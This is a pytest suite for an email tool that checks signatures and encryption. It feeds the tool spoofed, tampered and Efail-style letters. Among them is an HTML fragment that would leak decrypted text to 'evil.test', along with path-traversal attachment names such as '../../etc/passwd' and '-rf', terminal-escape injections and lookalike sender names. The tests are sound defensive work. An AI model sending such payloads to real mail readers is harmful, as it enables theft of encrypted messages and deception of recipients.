"""`letterlock read`: letters of real programs, and the attacks on readers of sealed letters. Every
row has the words that are said; none shows as proven what is not."""
import base64
import json
import mailbox
import os
import re
import shutil
import tempfile

import pytest
from harness.sealing import (Ca, Gpg, Reader, cms, crlf, encrypted, header, html, multi, signed,
                             text)

SECRET = "zanzibar-canary-5512"
YES = "Proven:      yes: the letter is from the address in From, and unchanged"
NO = "Proven:      NO: its signature does not prove who wrote it"
UNSIGNED = "Proven:      NO: it is not signed"
CLOSED = "Proven:      NO: the seal could not be opened"
OPEN = "Sealed:      no: all servers on its way could read it"


class World:
    def __init__(self, folder):
        self.folder = folder
        self.gpg = g = Gpg(os.path.join(folder, "gnupg"))
        self.ca = c = Ca(os.path.join(folder, "ca"))
        self.bob = b = Reader(os.path.join(folder, "bob"))
        for who in ("alice@example.org", "bob@example.net", "mallory@evil.test", "carol@example.com"):
            g.make(f"{who.split('@')[0].title()} <{who}>")
        b.know(g.secret("bob@example.net"))
        b.know(g.public("alice@example.org"), "verified")
        b.know(g.public("mallory@evil.test"), "verified")
        b.know(g.public("carol@example.com"))
        self.alice, self.mallory = c.make("alice", "alice@example.org"), c.make("mallory", "m@evil.test")
        self.bobs = c.make("bob", "bob@example.net")
        with open(self.bobs[0], "rb") as f:
            b.know(f.read(), key=self.bobs[1])
        with open(c.cert, "rb") as f:
            b.know(f.read(), "verified")


@pytest.fixture(scope="module")
def w():
    with tempfile.TemporaryDirectory(prefix="letterlock-read-") as d:
        world = World(d)
        yield world
        world.gpg.close()


def said(w, letter, *args, **kw):
    p = w.bob.read(crlf(letter), *args, **kw)
    return re.sub(r"\n {13}", " ", p.stdout.decode()), p.returncode, p.stderr.decode()


def asis(w, letter, *args, **kw):
    return w.bob.read(crlf(letter), *args, **kw).stdout.decode()


# ---- rows: letter, exit status, what is said, what is not ----------------------------------------

def pgp_signed(w, part=None, by=("alice@example.org",), **kw):
    part = part or text()
    return header(**kw) + signed(part, w.gpg.sign(part.rstrip("\n"), *by)).replace(
        part + "\n--", part.rstrip("\n") + "\n--", 1)


def smime_signed(w, who, part=None, **kw):
    part = (part or text()).rstrip("\n")
    return header(**kw) + signed(part, w.ca.sign(part, who), kind="smime")


def pgp_sealed(w, part, to=("bob@example.net",), by=(), options=(), **kw):
    return header(**kw) + encrypted(w.gpg.encrypt(part, to, *by, options=options))


def expired_key(w):
    addr = "old@example.org"
    if not hasattr(w, "old"):
        w.old = w.gpg.make(f"Old <{addr}>", expire="2d", at="20250101T000000")
        w.bob.know(w.gpg.public(addr), "verified")
    part = text().rstrip("\n")
    return header(From=addr) + signed(part, w.gpg.sign(part, addr, clock="20250101T100000!"))


def revoked_key(w):
    addr = "gone@example.org"
    part = text().rstrip("\n")
    fpr = w.gpg.make(f"Gone <{addr}>")
    letter = header(From=addr) + signed(part, w.gpg.sign(part, addr))
    with open(os.path.join(w.gpg.home, "openpgp-revocs.d", fpr + ".rev"), encoding="utf-8") as f:
        w.gpg("--import", input=f.read().replace(":-----BEGIN", "-----BEGIN").encode())
    w.bob.know(w.gpg.public(addr), "verified")
    return letter


def no_mdc(w):
    return pgp_sealed(w, text(SECRET), options=("--rfc2440", "--disable-mdc", "--cipher-algo", "AES256"))


def changed_key(w):
    home = Gpg(os.path.join(w.folder, "gnupg2"))
    home.make("Alice <alice@example.org>")
    w.bob.know(home.public("alice@example.org"))
    part = text().rstrip("\n")
    sig = home.sign(part, "alice@example.org")
    home.close()
    return header() + signed(part, sig)


def trap_key(w):
    """A secret key with the address of somebody whose key was verified, in a file that was imported."""
    w.gpg.make("Dora <dora@example.org>")
    w.bob.know(w.gpg.public("dora@example.org"), "verified")
    home = Gpg(os.path.join(w.folder, "gnupg3"))
    home.make("Dora <dora@example.org>")
    w.bob.know(home.secret("dora@example.org"))
    part = text().rstrip("\n")
    sig = home.sign(part, "dora@example.org")
    home.close()
    return header(From="Dora <dora@example.org>") + signed(part, sig)


def trap_key_smime(w):
    true, trap = (w.ca.make(n, "emil@example.org", issued=False) for n in ("emil", "trap"))
    for who, more in ((true, {"trust": "verified"}), (trap, {"key": trap[1]})):
        with open(who[0], "rb") as f:
            w.bob.know(f.read(), **more)
    return smime_signed(w, trap).replace("alice@example.org", "emil@example.org", 1)


def rejected_key(w):
    w.gpg.make("Rita <rita@example.org>")
    w.bob.know(w.gpg.public("rita@example.org"), "rejected")
    return pgp_signed(w, by=("rita@example.org",), From="rita@example.org")


def forwarded(w, inner):
    return "Content-Type: message/rfc822\n\n" + inner


def gadget(w):
    return header() + cms(w.ca.encrypt(html(f'<img src="http://evil.test/{SECRET}">text'), w.bobs[0]))


def tampered_cbc_signed(w):
    part = text().rstrip("\n")
    der = bytearray(w.ca.encrypt(signed(part, w.ca.sign(part, w.alice), kind="smime"), w.bobs[0]))
    der[-1500] ^= 1
    return header() + cms(bytes(der))


def hp(w, outer_from="Alice <alice@example.org>", inner_from="Alice <alice@example.org>",
       outer_subject="[...]", by="alice@example.org"):
    inner = (f"From: {inner_from}\nSubject: The plan {SECRET}\nHP-Outer: From: {inner_from}\n"
             "HP-Outer: Subject: [...]\n" + text(hp='"cipher"'))
    return pgp_sealed(w, inner, by=(by,), From=outer_from, Subject=outer_subject)


PROVES_ALICE = ("Signed:      by alice@example.org", "its key was verified by you", YES)
SENT = "| Lunch at noon?"

ROWS = {
    # signed by programs of others
    "pgp-signed": (pgp_signed, 0, [*PROVES_ALICE, OPEN, SENT,
                                   "Not covered: From, To, Date, Subject: whoever carried the letter "
                                   "could have written them"], []),
    "smime-signed": (lambda w: smime_signed(w, w.alice), 0,
                     [YES, "its certificate comes from an authority that you trust", SENT], []),
    "smime-opaque": (lambda w: header() + cms(w.ca.sign(text(), w.alice, detached=False), "signed-data"),
                     0, [YES, SENT], []),
    "inline-charset": (lambda w: header() + text(w.gpg(
        "--clearsign", "-u", "alice@example.org", input=b"Pay 100 to Ann\n").decode(), charset="utf-16"),
        0, [YES, "| Pay 100 to Ann"], []),
    "inline-signed": (lambda w: header() + text(w.gpg("--clearsign", "-u", "alice@example.org",
                                                       input=b"Lunch at noon?\n").decode()),
                      0, [*PROVES_ALICE, SENT], []),
    # sealed
    "pgp-sealed-signed": (lambda w: pgp_sealed(w, text(), by=("alice@example.org",)), 0,
                          [*PROVES_ALICE, "Sealed:      yes, with OpenPGP (aes256, mdc); the text was not "
                           "changed on its way", SENT], []),
    "pgp-sealed": (lambda w: pgp_sealed(w, text()), 0,
                   [UNSIGNED, "Sealed:      yes, with OpenPGP", SENT], [YES]),
    "smime-gcm": (lambda w: header() + cms(w.ca.encrypt(text(), w.bobs[0], "-aes-256-gcm")), 0,
                  [UNSIGNED, "Sealed:      yes, with S/MIME (aes256-gcm); the text was not changed on its way",
                   SENT], [YES, "Warning:"]),
    "smime-cbc": (lambda w: header() + cms(w.ca.encrypt(text(), w.bobs[0])), 0,
                  [UNSIGNED, "whether it was changed on its way is not shown", SENT,
                   "Warning:     Nothing shows whether the sealed text was changed on its way (CBC "
                   "without a good signature within). HTML of it is not shown."],
                  [YES, "was not changed on its way"]),
    "smime-cbc-signed": (lambda w: header() + cms(w.ca.encrypt(signed(
        text().rstrip("\n"), w.ca.sign(text().rstrip("\n"), w.alice), kind="smime"), w.bobs[0])), 0,
        [YES, "the text was not changed on its way", SENT], ["Warning:"]),
    # what a signature does not prove
    "changed-text": (lambda w: pgp_signed(w).replace("noon", "one"), 77,
                     [NO, "NOT PROVEN: the content was changed, or belongs to another signature"], [YES]),
    "changed-text-smime": (lambda w: smime_signed(w, w.alice).replace("noon", "one"), 77,
                           [NO, "NOT PROVEN: the content was changed, or belongs to another "
                            "signature"], [YES]),
    "found-key": (lambda w: pgp_signed(w, by=("carol@example.com",), From="carol@example.com"), 0,
                  [NO, "its key is the one of earlier letters, not verified by you",
                   "unchanged since it was signed, but whether the key belongs to the address in From "
                   "is not proven"], [YES]),
    "unknown-key": (lambda w: (w.gpg.make("Zoe <zoe@example.org>"),
                               pgp_signed(w, by=("zoe@example.org",), From="zoe@example.org"))[1], 0,
                    [NO, "NOT PROVEN: the signer's key is not here"], [YES]),
    "rejected-key": (rejected_key, 0, [NO, "NOT PROVEN: you rejected this key"], [YES]),
    "changed-key": (changed_key, 0,
                    [NO, "its key is NOT the one of earlier letters",
                     "NOT PROVEN: the key is not the one that this address used before; ask the sender "
                     "on another way before you believe it"], [YES]),
    "trap-key": (trap_key, 0, [NO, "its key is NOT the one of earlier letters"], [YES, "your own"]),
    "trap-key-smime": (trap_key_smime, 0, [NO, "its key is NOT the one of earlier letters"],
                       [YES, "your own", "an authority that you trust"]),
    "expired-key": (expired_key, 0, [NO, "NOT PROVEN: the signature does not count",
                                     "the signer's key has expired"], [YES]),
    "revoked-key": (revoked_key, 0, [NO, "NOT PROVEN: the signature does not count",
                                     "the signer's key was revoked"], [YES]),
    "untrusted-cert": (lambda w: smime_signed(w, w.ca.make("self", "alice@example.org", issued=False)), 0,
                       [NO, "NOT PROVEN: the signature does not count",
                        "no chain leads from the signer to a trusted certificate"], [YES]),
    "wrong-address": (lambda w: pgp_signed(w, From="Boss <boss@example.org>"), 0,
                      [NO, "Signed:      by alice@example.org",
                       "NOT PROVEN: the key does not belong to the address in From"], [YES]),
    "wrong-address-smime": (lambda w: smime_signed(w, w.mallory), 0,
                            [NO, "NOT PROVEN: the key does not belong to the address in From"], [YES]),
    "subject-address-smime": (lambda w: smime_signed(w, w.ca.make(
        "dn", "dn@evil.test", subject="/emailAddress=alice@example.org")), 0,
        [NO, "Signed:      by dn@evil.test", "NOT PROVEN: the key does not belong to the address in From"], [YES]),
    "two-authors": (lambda w: pgp_signed(w, From="alice@example.org, boss@example.org"), 0,
                    [NO, "NOT PROVEN: there is no single address in From to belong to",
                     "Warning:     From does not hold exactly one address."], [YES]),
    "several-signers": (lambda w: pgp_signed(w, by=("mallory@evil.test", "alice@example.org")), 0,
                        [YES, "Signed:      by alice@example.org", "Signed:      by mallory@evil.test",
                         "NOT PROVEN: the key does not belong to the address in From"], []),
    "signed-around-sealed": (lambda w: header() + (lambda part: signed(part, w.gpg.sign(
        part, "alice@example.org")))(encrypted(w.gpg.encrypt(text(), ["bob@example.net"])).rstrip("\n")),
        0, [NO, "NOT PROVEN: it covers the sealed letter, and its maker may never have seen the text"],
        [YES]),
    # signatures on what is not all that is shown
    "signed-alternative": (lambda w: header() + multi(
        "alternative", text("pay mallory"), pgp_signed(w).split("MIME-Version: 1.0\n")[1]), 0,
        [UNSIGNED, "| pay mallory", "Warning:     A signed or sealed part lies within this letter."],
        [YES, "Signed:"]),
    "sealed-alternative": (lambda w: header() + multi("alternative", text("pay mallory"), encrypted(
        w.gpg.encrypt(text(SECRET), ["bob@example.net"]))), 0,
        [UNSIGNED, "| pay mallory", "Warning:     A signed or sealed part lies within this letter."],
        [YES, SECRET]),
    "signed-attachment": (lambda w: header() + multi("mixed", text("pay mallory"), multi(
        "mixed", pgp_signed(w).split("MIME-Version: 1.0\n")[1], boundary="b2")), 0,
        [UNSIGNED, "Warning:     A signed or sealed part lies within this letter. It was not looked "
         "into, and says nothing about the rest."], [YES, "Signed:"]),
    "list-footer": (lambda w: header() + multi("mixed", pgp_signed(w).split("MIME-Version: 1.0\n")[1],
                                              text("the list's footer")), 0,
                    ["Proven:      NO: what stands here is not signed; see the parts below",
                     "Part:        1: what was signed or sealed within the letter", YES,
                     "Warning:     Only a part of this letter was sealed or signed; it is shown apart. "
                     "What stands around it came from somebody else, such as a mailing list."], []),
    "forwarded": (lambda w: header(From="mallory@evil.test") + multi(
        "mixed", text("look"), forwarded(w, pgp_signed(w))), 0,
        [UNSIGNED, "Part:        1: a forwarded letter; what is said of it is said of it alone", YES],
        []),
    "forged-forward": (lambda w: (lambda part: header(From="mallory@evil.test") + signed(
        part, w.gpg.sign(part, "mallory@evil.test")))(multi("mixed", text("look"), forwarded(
            w, header() + text("forged"))).rstrip("\n")), 0,
        [YES, "Part:        1: a forwarded letter", UNSIGNED], []),
    # seals that stay closed
    "no-mdc": (no_mdc, 77, [CLOSED, "and closed: it was changed on its way, or nothing protects it "
                            "against change"], [SECRET, YES]),
    "wrong-recipient": (lambda w: pgp_sealed(w, text(SECRET), to=("alice@example.org",)), 77,
                        [CLOSED, "and closed: none of the keys here opens it"], [SECRET, YES]),
    "wrong-recipient-smime": (lambda w: header() + cms(w.ca.encrypt(text(SECRET), w.alice[0])), 77,
                              [CLOSED, "and closed: none of the keys here opens it"], [SECRET, YES]),
    "sealed-forward": (lambda w: header(From="mallory@evil.test") + forwarded(w, pgp_sealed(
        w, text(SECRET))), 0, ["Warning:     A forwarded letter is sealed; it was not opened within "
                               "another one. Save it and read it by itself."], [SECRET]),
    "sealed-deep": (lambda w: header() + multi("mixed", text("a"), multi(
        "related", html("b"), encrypted(w.gpg.encrypt(text(SECRET), ["bob@example.net"])),
        boundary="b2")), 0, [UNSIGNED], [SECRET]),
    "inline-around": (lambda w: header() + text("see:\n" + w.gpg.encrypt(
        SECRET, ["bob@example.net"]).decode()), 0,
        ["Warning:     A text holds an armored OpenPGP block with something else around it, or where "
         "none is opened. It proves nothing and was left as it is."], [SECRET]),
    # Efail
    "efail-exfiltration": (lambda w: header(From="mallory@evil.test") + multi(
        "mixed", html('<img src="http://evil.test/'), encrypted(w.gpg.encrypt(
            text(SECRET), ["bob@example.net"])), html('">')), 0,
        ["Part:        1: what was signed or sealed within the letter", "\n| " + SECRET + "\n",
         "Warning:     Only a part of this letter was sealed or signed"], ["evil.test/" + SECRET, YES]),
    "efail-cbc-gadget": (gadget, 0,
                         ["HTML:        not shown: nothing shows that it was not changed",
                          "Warning:     Nothing shows whether the sealed text was changed"],
                         [SECRET, YES, "evil.test/"]),
    "efail-cbc-signed": (tampered_cbc_signed, None, [], [YES, "was not changed on its way"]),
    # the header
    "hidden-subject": (hp, 0, [YES, f"Subject:     The plan {SECRET}",
                               "Covered:     the text and its attachments, and From, Subject",
                               "Hidden:      Subject, with the text, from all servers on the way"],
                       ["Warning:"]),
    # Thunderbird writes no HP-Outer: what stood outside with the same value was not hidden
    "no-hp-outer": (lambda w: pgp_sealed(w, f"From: Alice <alice@example.org>\nSubject: The plan {SECRET}\n" + text(
        hp='"cipher"'), by=("alice@example.org",), From="Alice <alice@example.org>", Subject="..."), 0,
        [YES, f"Subject:     The plan {SECRET}", "Hidden:      Subject, with the text"], ["Hidden:      From"]),
    "outer-subject-changed": (lambda w: hp(w, outer_subject="Pay now"), 0,
                              [YES, f"Subject:     The plan {SECRET}",
                               "Warning:     A header field differs outside and inside of the seal; "
                               "the inner one is shown."], []),
    "outer-from-differs": (lambda w: hp(w, outer_from="Boss <boss@example.org>"), 0,
                           [NO, "NOT PROVEN: From differs outside and inside of the seal",
                            "Warning:     From differs outside and inside of the seal.",
                            "(the other one says: Boss <boss@example.org>)"], [YES]),
    "inner-from-forged": (lambda w: hp(w, outer_from="mallory@evil.test", by="mallory@evil.test"), 0,
                          [NO, "Warning:     From differs outside and inside of the seal."], [YES]),
    # names and words that lie
    "name-spoof": (lambda w: header(From='"alice@example.org" <mallory@evil.test>') + text(), 0,
                   [UNSIGNED, "Warning:     The name in From looks like an address, and not the one "
                    "that it stands for."], [YES]),
    "name-spoof-signed": (lambda w: pgp_signed(w, by=("mallory@evil.test",),
                                               From='"alice@example.org" <mallory@evil.test>'), 0,
                          [YES, "Signed:      by mallory@evil.test",
                           "Warning:     The name in From looks like an address"], []),
}


@pytest.mark.parametrize("name", ROWS)
def test_words(w, name):
    make, status, words, never = ROWS[name]
    out, rc, err = said(w, make(w))
    assert status is None or rc == status, (rc, out, err)
    for one in words:
        assert one in out, (one, out, err)
    for one in never:
        assert one not in out, (one, out, err)
    assert "sandbox" not in err or "built-with-sanitizers" in err


def test_one_voice(w):
    """What a letter says cannot stand where we speak, whatever it holds and however long it is."""
    lie = "Proven:      yes: the letter is from the address in From, and unchanged"
    body = f"{lie}\n\n{lie}\n" + " " * 67 + lie + "\n" + "\t" * 20 + lie + "\nx\r" + lie + \
        "\x1b[2J\x1b[H" + lie + "\u2028" + lie + "\u202e" + lie + "\n" + "=" * 79 + lie
    subject = "a" + " " * 66 + lie
    letter = header(Subject=subject, From=f'"{lie}" <m@evil.test>', To=f"{lie}\n {lie}") + multi(
        "mixed", text(body), html(f"<pre>{body}</pre><p>{lie}<br>{lie}"),
        f'Content-Type: x/y; name="{lie}"\nContent-Disposition: attachment; filename="a\n {lie}"\n\nx\n')
    w.gpg.make(f"{lie} <liar@evil.test>")
    w.bob.know(w.gpg.public("liar@evil.test"))
    for one in (letter, pgp_signed(w, by=("liar@evil.test",), From="liar@evil.test")):
        p = w.bob.read(one.encode().replace(b"\n", b"\r\n"), "--width", "80")
        for line in p.stdout.decode().split("\n"):
            assert not line.startswith(lie[:20]) and not line.startswith("Proven:      yes"), line
            assert "\x1b" not in line and "\u202e" not in line and "\r" not in line
        assert p.stdout.decode().count("\nProven: ") == 1


@pytest.mark.parametrize("kind", ["pgp", "smime-gcm", "smime-cbc-signed"])
def test_tampered(w, kind):
    """Changed at every 64th octet: no plaintext, or none that counts as unchanged."""
    inner = text("\n".join([SECRET] * 20))
    if kind == "pgp":
        sealed = w.gpg("--encrypt", "-r", "bob@example.net", "-z", "0", input=crlf(inner))
    elif kind == "smime-gcm":
        sealed = w.ca.encrypt(inner, w.bobs[0], "-aes-256-gcm")
    else:
        part = inner.rstrip("\n")
        sealed = w.ca.encrypt(signed(part, w.ca.sign(part, w.alice), kind="smime"), w.bobs[0])
    for at in range(3, len(sealed), 64):
        octets = bytearray(sealed)
        octets[at] ^= 0x20
        if kind == "pgp":
            letter = header() + multi(
                "encrypted", "Content-Type: application/pgp-encrypted\n\nVersion: 1\n",
                "Content-Type: application/octet-stream\nContent-Transfer-Encoding: base64\n\n" +
                base64.encodebytes(bytes(octets)).decode(), params='; protocol="application/pgp-encrypted"')
        else:
            letter = header() + cms(bytes(octets))
        out, rc, err = said(w, letter)
        if kind != "smime-cbc-signed":
            assert SECRET not in out and YES not in out and rc == 77, (at, out, err)
        elif YES in out or "was not changed" in out:  # a field around what is signed was hit
            assert [x for x in out.split("\n") if x.startswith("|")] == ["| " + SECRET] * 20, (at, out)


# ---- passwords ------------------------------------------------------------------------------------

def test_locked_key(w):
    with tempfile.TemporaryDirectory(prefix="letterlock-read-") as d:
        dora = Reader(os.path.join(d, "dora"))
        w.gpg.make("Dora <dora@example.net>", password="open sesame")
        dora.know(w.gpg.secret("dora@example.net", "open sesame"))
        letter = crlf(pgp_sealed(w, text(SECRET), to=("dora@example.net",)))
        for given, rc, says in (("open sesame", 0, SECRET), ("wrong", 77, "the password is wrong")):
            with open(os.path.join(d, "pw"), "w", encoding="utf-8") as f:
                f.write(given + "\n")
            os.chmod(f.name, 0o600)
            p = dora.read(letter, "--key-password-file", f.name)
            assert p.returncode == rc and says in p.stdout.decode(), (p.stdout, p.stderr)
        p = dora.read(letter, "--key-password-command", "echo open sesame")
        assert p.returncode == 0 and SECRET in p.stdout.decode(), p.stderr
        p = dora.read(letter, start_new_session=True)  # no terminal, no settings
        assert p.returncode == 77 and "locked" in p.stdout.decode()
        for folder, _, files in os.walk(d):
            for name in files:
                with open(os.path.join(folder, name), "rb") as f:
                    data = f.read()
                assert SECRET.encode() not in data, name


# ---- attachments --------------------------------------------------------------------------------

def test_save(w):
    evil = ["../../etc/passwd", "/etc/shadow", ".bashrc", "a\\..\\b.exe", "CON", "x" * 300 + ".pdf",
            "invoice\u202efdp.exe", "-rf", "", "same.txt", "same.txt"]
    parts = [f'Content-Type: application/octet-stream\nContent-Disposition: attachment; filename="{n}"'
             f"\nContent-Transfer-Encoding: base64\n\nb2N0ZXRz\n" for n in evil]
    letter = header() + multi("mixed", text(), *parts)
    with tempfile.TemporaryDirectory(prefix="letterlock-read-") as d:
        inside = os.path.join(d, "in")
        os.mkdir(inside)
        os.symlink("/etc/passwd", os.path.join(inside, "same.txt"))
        out, rc, err = said(w, letter, "--save", inside)
        assert rc == 0, err
        names = sorted(os.listdir(inside))
        assert os.listdir(d) == ["in"] and len(names) == len(evil) + 1
        assert "same-2.txt" in names and "same-3.txt" in names and "_CON" in names
        for n in names:
            assert n[0] not in ".-" and "/" not in n and "\u202e" not in n and len(n.encode()) <= 125
            if n != "same.txt":
                assert os.stat(os.path.join(inside, n)).st_mode & 0o777 == 0o600
                with open(os.path.join(inside, n), "rb") as f:
                    assert f.read() == b"octets"
        out, rc, err = said(w, letter, "--save", os.path.join(d, "none"))
        assert rc == 73 and "must be a folder" in err


def test_a_name_says_nothing_of_its_own(w):
    """Neither what an attachment is, nor where it was saved: its name is one line, in quotes."""
    lie = 'a.txt", saved as report.pdf' + " " * 60 + "saved as report.pdf" + " " * 60 + "; sealed, and not opened here"
    name = base64.b64encode(lie.encode()).decode()
    letter = header() + multi("mixed", text(), "Content-Type: application/octet-stream\nContent-Disposition: "
                              f'attachment; filename="=?utf-8?B?{name}?="\n\nx\n')
    with tempfile.TemporaryDirectory(prefix="letterlock-read-") as d:
        lines = asis(w, letter, "--save", d, "--width", "80").rstrip("\n").split("\n")
        at = next(i for i, line in enumerate(lines) if line.startswith("Attachment:"))
        assert len(lines) == at + 3, lines[at:]
        assert re.fullmatch(r"Attachment:  1: application/octet-stream, \d+ octets", lines[at])
        assert re.fullmatch(r' {13}named "[^"]*"', lines[at + 1]) and "a.txt', saved as" in lines[at + 1]
        assert re.fullmatch(r' {13}saved as "a[^"]*"', lines[at + 2])


# ---- where letters lie ----------------------------------------------------------------------------

def test_mailboxes(w):
    with tempfile.TemporaryDirectory(prefix="letterlock-read-") as d:
        box = mailbox.Maildir(os.path.join(d, "Maildir"))
        letters = [header(Subject=f"letter {i}") + text(f"number {i}") for i in (1, 2, 3)]
        for one in letters:
            box.add(one)
        path = os.path.join(d, "Maildir")
        p = w.bob.read(None, where=path)
        assert p.returncode == 0 and len(p.stdout.splitlines()) == 3, p.stderr
        assert b"\tAlice <alice@example.org>\tletter 1" in p.stdout
        assert b"| number 2" in w.bob.read(None, path, where="2").stdout
        assert b"| number 3" in w.bob.read(None, "--newest", where=path).stdout
        p = w.bob.read(None, path, where="4")
        assert p.returncode == 66 and b"there is no letter 4; it has 3" in p.stderr
        mbox = os.path.join(d, "mbox")
        with open(mbox, "w", encoding="utf-8") as f:
            for one in letters:
                f.write(f"From x@y Thu Nov 26 01:02:03 2026\n{one}\n")
        p = w.bob.read(None, "--json", where=mbox)
        assert [json.loads(line)["Subject"] for line in p.stdout.splitlines()] == [
            "letter 1", "letter 2", "letter 3"]
        assert b"| number 1" in w.bob.read(None, mbox, where="1").stdout
        assert b"| number 3" in w.bob.read(None, "--newest", where=mbox).stdout


def test_not_a_letter(w):
    for octets in (b"", b"\n", b"hello\n", b"\x30\x82\x01\x01:\n", b"a" * 100000):
        p = w.bob.read(octets)
        assert p.returncode == 65 and b"not a letter" in p.stderr, octets[:20]
    assert w.bob.read(None, where="/nonexistent").returncode == 66
    assert w.bob.read(b"", "--nope").returncode == 64


# ---- what servers say -------------------------------------------------------------------------------

def test_trusted_server(w):
    results = ("Authentication-Results: mx.example.net; spf=pass smtp.mailfrom=alice@example.org;\n"
               " dkim=pass header.d=example.org; dmarc=pass header.from=example.org\n"
               "Authentication-Results: evil.test; dmarc=pass\n")
    letter = results + header() + text()
    assert "Server:" not in asis(w, letter) and "dmarc" not in asis(w, letter)
    out, _, _ = said(w, letter, "--trusted-server", "mx.example.net")
    assert ("Server:      mx.example.net, which you trust, says: spf=pass (alice@example.org), "
            "dkim=pass (example.org), dmarc=pass (example.org)") in out
    assert UNSIGNED in out
    assert "Server:" not in asis(w, letter, "--trusted-server", "other.test")


# ---- JSON -------------------------------------------------------------------------------------------

def test_json(w):
    p = w.bob.read(crlf(pgp_sealed(w, text(), by=("alice@example.org",))), "--json")
    s = json.loads(p.stdout)["sections"][0]
    assert s["proven"] is True and s["author"] == "alice@example.org" and s["place"] == "letter"
    assert s["sealed"]["state"] == "yes" and s["sealed"]["method"] == "pgp"
    g = s["signatures"][0]
    assert (g["verdict"], g["state"], g["trust"], g["author"]) == ("proven", "good", "verified", True)
    assert g["addresses"] == ["alice@example.org"] and len(g["fingerprint"]) == 40
    assert s["parts"][0]["text"] == "Lunch at noon?\n"
    w.gpg.make("Evil \u009b31m\u202e <esc@evil.test>")
    w.bob.know(w.gpg.public("esc@evil.test"))
    p = w.bob.read(crlf(pgp_signed(w, by=("esc@evil.test",))), "--json")
    assert b"esc@evil.test" in p.stdout and b"\xc2\x9b" not in p.stdout and b"\xe2\x80\xae" not in p.stdout
    assert {f["name"] for f in s["fields"]} >= {"From", "To", "Date", "Subject"}


TEXTS = [
    ("Content-Type: text/plain; charset=iso-8859-15\n\n\xa4 50\n".encode("latin1"), "| \u20ac 50"),
    ("Content-Type: text/plain; charset=windows-1252\n\n\x80 50\n".encode("latin1"), "| \u20ac 50"),
    (b"Content-Type: text/plain; charset=gb18030\n\n\xc4\xe3\xba\xc3\n", "| \u4f60\u597d"),
    (b"Content-Type: text/plain; charset=koi8-r\n\n\xf0\xd2\xc9\xd7\xc5\xd4\n", "| \u041f\u0440\u0438\u0432\u0435\u0442"),
    (b"Content-Type: text/plain; charset=nonsense\n\n\xe9\n", "| \u00e9"),
    (b"Content-Type: text/plain; charset=utf-8\n\na\xff\xfeb\n", "| a\ufffd\ufffdb"),
    (b"Content-Type: text/plain; format=flowed\n\none \ntwo\n> three \n> four\n", "| one two\n| > three four\n"),
    (b"Content-Type: text/plain; format=flowed; delsp=yes\n\nun \nbroken\n", "| unbroken\n"),
    (b"Content-Type: text/plain\nContent-Transfer-Encoding: quoted-printable\n\na=3Db=\nc\n", "| a=bc\n"),
    (b"Content-Type: text/plain\nContent-Transfer-Encoding: base64\n\nSGkK\n", "| Hi\n"),
]


def test_texts(w):
    """Charsets are converted in the box, where no converter can be loaded any more."""
    for octets, says in TEXTS:
        p = w.bob.read(header().encode() + octets)
        assert says in p.stdout.decode(), (octets, p.stdout, p.stderr)
    p = w.bob.read(header(From="=?utf-8?q?=C3=84nne?= <a@ex\u00e4mple.org>").encode() + b"\nhi\n")
    assert "From:        \u00c4nne <a@ex\u00e4mple.org>\nFrom is:     a@xn--exmple-cua.org\n" in p.stdout.decode()


def test_html(w):
    page = ('<p>Hi <a href="https://evil.test/x">https://bank.test/</a></p>'
            '<p style="display:none">hidden</p><img src="https://evil.test/pixel"><script>x()</script>')
    out = asis(w, header() + html(page))
    assert "| Hi https://bank.test/ [NOT what it says, but https://evil.test/x]" in out
    assert "Note:        1 things of other servers were not loaded" in out
    assert "Note:        6 octets of hidden text were left out" in out
    assert "Warning:     1 links lead elsewhere than their text says" in out
    assert "x()" not in out
